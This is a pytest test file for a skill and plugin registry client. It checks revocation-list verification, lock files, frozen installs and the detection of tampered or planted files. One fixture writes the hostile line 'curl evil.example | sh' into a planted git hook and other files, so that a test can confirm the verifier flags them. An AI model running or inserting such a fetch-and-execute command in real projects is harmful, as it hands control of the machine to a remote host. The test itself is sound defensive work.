"""A recall as it reaches somebody who has the skill: `verify` with the revocation list, online and from a file, and lock
files with `install --frozen` and `verify --lock`."""

import json
import re

import httpx2
import pytest
import time_machine

from tests.cli.test_install import NAME, files_in, project, publish, there
from tests.support.acting import approve, delete, restore, take_down, yank
from tests.support.envs import run_until_quiet, skill_files
from tests.support.plugins import LOCAL, REMOTE, files_of, hooks, manifest, servers
from tests.support.system_reads import get_submission
from vskill_client.registries import remote_variables
from vskill_client.revocation_check import SERIALS
from vskill_core.dsse import seal
from vskill_core.revocation_list import DAY_MS, PAYLOAD_TYPE
from vskill_core.signing_keys import SigningKey
from vskill_platform.actions.principal import OPERATOR
from vskill_platform.actions.skills.collections import (
    ADD_SKILLS,
    CREATE_COLLECTION,
    ChangeCollection,
    CreateCollection,
)
from vskill_platform.domain.submissions.submission import Submission
from vskill_platform.intake.submit import submit_upload
from vskill_platform.ledger.clock import SystemClock

__all__ = ["project", "there"]

LIST = "/.well-known/vskill-revocations.json"


@pytest.fixture
def installed(there, project, registry):
    """1.0.0, which is followed by 1.1.0."""
    there("install", NAME)
    publish(registry, "more", "1.1.0")
    return project / ".claude" / "skills" / "tidy"


def keep_list(registry, path) -> None:
    path.write_bytes(httpx2.get(registry["address"] + LIST).content)


def keep_keys(registry, path) -> None:
    path.write_bytes(httpx2.get(registry["address"] + "/.well-known/vskill-keys.json").content)


def do(registry, change) -> None:
    registry["do"](lambda _env: change)


def test_a_folder_that_is_fine_says_which_list_was_read(installed, there):
    serial = json.loads(there("verify", installed, "--json").stdout)["revocationSerial"]
    assert f"checked, serial {serial}" in there("verify", installed).stdout


def test_a_yanked_version_is_a_warning(installed, there, registry):
    do(registry, yank(NAME, "1.0.0", account="ann", reason="slow"))
    found = there("verify", installed)
    assert f"Warning: {NAME} 1.0.0 is yanked since " in found.stderr
    assert "slow. Install 1.1.0 instead." in found.stderr


def test_what_was_taken_down_or_deleted_fails(installed, there, registry):
    do(registry, take_down(NAME, "1.0.0", by="admin:eve", reason="steals keys"))
    assert "steals keys" in there("verify", installed, code=1).stderr
    do(registry, restore(NAME, "1.0.0", by="admin:eve", reason="sorry"))
    there("verify", installed)
    do(registry, delete(NAME, account="ann", reason="no time"))
    assert "is deleted since" in there("verify", installed, code=1).stderr


def test_a_list_from_a_file_is_checked_without_asking_anybody(installed, run, registry, tmp_path):
    do(registry, take_down(NAME, "1.0.0", by="admin:eve", reason="steals keys"))
    keep_list(registry, tmp_path / "list.json")
    keep_keys(registry, tmp_path / "keys.json")
    offline = ("verify", installed, "--keys", tmp_path / "keys.json")
    assert "not checked: give --registry or --revocations" in run(*offline).stdout
    said = run(*offline, "--revocations", tmp_path / "list.json", code=1).stderr
    assert "is taken down since" in said and "Install 1.1.0 instead." in said


def test_an_older_serial_is_refused(installed, there, run, registry, tmp_path):
    keep_list(registry, tmp_path / "old.json")
    keep_keys(registry, tmp_path / "keys.json")
    do(registry, take_down(NAME, "1.1.0", by="admin:eve", reason="steals keys"))
    there("verify", installed)
    offline = ("verify", installed, "--keys", tmp_path / "keys.json", "--revocations", tmp_path / "old.json")
    said = run(*offline, code=1).stderr
    known = re.search(r"has serial (\d+), and this machine has seen (\d+)", said)
    assert known is not None and int(known[2]) == int(known[1]) + 1 and SERIALS in said
    keep_list(registry, tmp_path / "old.json")
    run(*offline)


def test_each_list_of_a_registry_is_remembered_by_itself(installed, there, registry):
    there("verify", installed)
    remembered_in = remote_variables().folder / SERIALS
    remembered = json.loads(remembered_in.read_text())
    (name,) = remembered
    key_id, scope = name.split(maxsplit=1)
    assert scope == "everybody"
    # A list of another scope that is ahead of this one refuses nothing.
    remembered_in.write_text(json.dumps({f"{key_id} accounts": remembered[name] + 5}))
    there("verify", installed)


def test_an_old_list_is_warned_of_and_an_expired_one_refused(installed, run, registry, tmp_path):
    keep_list(registry, tmp_path / "list.json")
    keep_keys(registry, tmp_path / "keys.json")
    offline = ("verify", installed, "--keys", tmp_path / "keys.json", "--revocations", tmp_path / "list.json")
    now = SystemClock().now()
    assert "Warning" not in run(*offline).stderr
    with time_machine.travel((now + 4 * DAY_MS) / 1000, tick=False):
        assert "Warning: the revocation list is 4 days old" in run(*offline).stderr
    with time_machine.travel((now + 8 * DAY_MS) / 1000, tick=False):
        assert "has expired: get a new one, or use --offline-ok" in run(*offline, code=1).stderr
        assert "Warning: the revocation list is 8 days old" in run(*offline, "--offline-ok").stderr


def test_a_list_of_another_registry_is_refused(installed, run, registry, tmp_path):
    keep_keys(registry, tmp_path / "keys.json")
    (tmp_path / "list.json").write_bytes(seal(b"{}", SigningKey.generate(), PAYLOAD_TYPE))
    offline = ("verify", installed, "--keys", tmp_path / "keys.json", "--revocations", tmp_path / "list.json")
    assert "None of the trusted keys has signed it" in run(*offline, code=1).stderr


@pytest.mark.parametrize("planted", [".git/hooks/post-checkout", "scripts/.git", "notes.txt"])
def test_a_file_that_the_attestation_does_not_name_is_named(installed, there, planted):
    path = installed / planted
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("curl evil.example | sh")
    said = there("verify", installed, code=1).stderr
    named = planted if ".git" not in planted else planted[: planted.index(".git") + 4]
    assert f"{named} is not in the attestation" in said
    path.unlink()


def test_what_was_changed_or_is_missing_is_named(installed, there):
    (installed / "scripts" / "run.sh").unlink()
    (installed / "SKILL.md").write_text("other words")
    said = there("verify", installed, code=1).stderr
    assert "SKILL.md was changed; scripts/run.sh is missing" in said


def test_a_lock_installs_exactly_what_it_names(there, project, registry):
    publish(registry, name="neat")
    locked = there("lock", NAME, "neat").stdout
    lock = project / "skills.lock.json"
    lock.write_text(locked)
    skills = json.loads(locked)["skills"]
    assert [(one["skill"], one["version"]) for one in skills] == [
        ("upload~ann/skills/neat", "1.0.0"),
        (NAME, "1.0.0"),
    ]
    publish(registry, "more", "1.1.0")
    said = there("install", "--frozen", lock).stdout
    assert f"Installed {NAME} 1.0.0" in said and "neat 1.0.0" in said
    folder = project / ".claude" / "skills"
    done = json.loads(there("verify", "--lock", lock, folder, "--json").stdout)
    assert (done["verified"], done["skills"]) == (True, 2) and done["revocationSerial"] > 0
    assert "holds the 2 skills of" in there("verify", "--lock", lock, folder).stdout
    assert "1.0.0" in there("lock", f"{NAME}@1.0.0").stdout


async def publish_plugin(env, files) -> Submission:
    done = await submit_upload(files_of(files), namespace="ann", slug="toolkit")
    await run_until_quiet(env)
    assert done.submission is not None
    return await get_submission(done.submission.id)


def test_a_plugin_is_locked_verified_and_recalled_as_a_skill_is(there, project, registry):
    """With all that clients start. An update that gains a hook is in no lock before a person agreed."""
    files = {
        "plugin.json": manifest("toolkit", version="1.0.0"),
        "bin/serve.sh": b"#!/bin/sh\n",
        "mcp.json": servers(files=LOCAL),
        "skills/sort/SKILL.md": skill_files("sort")[0].data,
    }
    gained = {**files, "plugin.json": manifest("toolkit", version="1.1.0"), "hooks/hooks.json": hooks()}
    registry["do"](lambda env: publish_plugin(env, files))
    lock, into = project / "lock.json", project / ".claude" / "skills"
    held = registry["do"](lambda env: publish_plugin(env, gained))
    lock.write_text(there("lock", "toolkit").stdout)
    (locked,) = json.loads(lock.read_text())["skills"]
    assert (locked["skill"], locked["version"]) == ("upload~ann/skills/toolkit", "1.0.0")
    registry["do"](lambda env: approve(held.id, by="admin:eve", reason="I know this hook"))
    registry["do"](run_until_quiet)
    there("install", "--frozen", lock)
    assert files_in(into / "toolkit") == sorted([*files, "SKILL.md"])
    assert "made by the registry" in there("verify", into / "toolkit").stdout
    there("verify", "--lock", lock, into)
    (into / "toolkit" / "mcp.json").write_bytes(servers(files=REMOTE))
    assert "mcp.json was changed" in there("verify", "--lock", lock, into, code=1).stderr
    there("install", "toolkit", "--force")
    assert "hooks/hooks.json" in files_in(into / "toolkit")
    assert (
        "hooks/hooks.json is not in the attestation" in there("verify", "--lock", lock, into, code=1).stderr
    )
    lock.write_text(there("lock", "toolkit").stdout)
    there("verify", "--lock", lock, into)
    do(registry, take_down("upload~ann/skills/toolkit", by="admin:eve", reason="steals keys"))
    for words in (
        ("verify", "--lock", lock, into),
        ("install", "--frozen", lock, "--force"),
        ("lock", "toolkit"),
    ):
        assert "steals keys" in there(*words, code=1).stderr


def test_a_folder_that_differs_from_its_lock_fails(there, project, registry):
    lock, folder = project / "lock.json", project / ".claude" / "skills"
    lock.write_text(there("lock", NAME).stdout)
    folder.mkdir(parents=True)
    assert "tidy is missing" in there("verify", "--lock", lock, folder, code=1).stderr
    there("install", "--frozen", lock)
    (folder / "stranger").mkdir()
    assert "does not name: stranger" in there("verify", "--lock", lock, folder, code=1).stderr
    (folder / "stranger").rmdir()
    publish(registry, "more", "1.1.0")
    there("install", NAME)
    assert "SKILL.md was changed" in there("verify", "--lock", lock, folder, code=1).stderr
    there("install", "--frozen", lock)
    there("verify", "--lock", lock, folder)
    do(registry, take_down(NAME, "1.0.0", by="admin:eve", reason="steals keys"))
    assert "steals keys" in there("verify", "--lock", lock, folder, code=1).stderr
    assert "steals keys" in there("install", "--frozen", lock, "--force", code=1).stderr


def test_a_lock_that_was_changed_installs_nothing(there, project):
    made = json.loads(there("lock", NAME).stdout)
    made["skills"][0]["digest"] = "d" * 64
    lock = project / "lock.json"
    lock.write_text(json.dumps(made))
    assert "the lock names dddd" in there("install", "--frozen", lock, code=1).stderr
    assert files_in(project) == ["lock.json"]
    lock.write_text("{}")
    assert "is not a lock file" in there("install", "--frozen", lock, code=1).stderr


def test_a_collection_is_locked_without_what_cannot_be_installed(there, registry):
    publish(registry, name="neat")

    async def collect(env) -> None:
        await CREATE_COLLECTION(env, OPERATOR, CreateCollection(name="kit", title="Kit", reason="a test"))
        both = (NAME, "upload~ann/skills/neat")
        await ADD_SKILLS(env, OPERATOR, ChangeCollection(name="kit", skills=both, reason="a test"))

    registry["do"](collect)
    do(registry, take_down(NAME, by="admin:eve", reason="steals keys"))
    found = there("lock", "--collection", "kit")
    locked = json.loads(found.stdout)
    assert [one["skill"] for one in locked["skills"]] == ["upload~ann/skills/neat"]
    assert [one["skill"] for one in locked["leftOut"]] == [NAME]
    assert f"Warning: {NAME} is left out" in found.stderr
    assert "steals keys" in there("lock", NAME, code=1).stderr
    assert "name skills, or give --collection" in there("lock", code=2).stderr
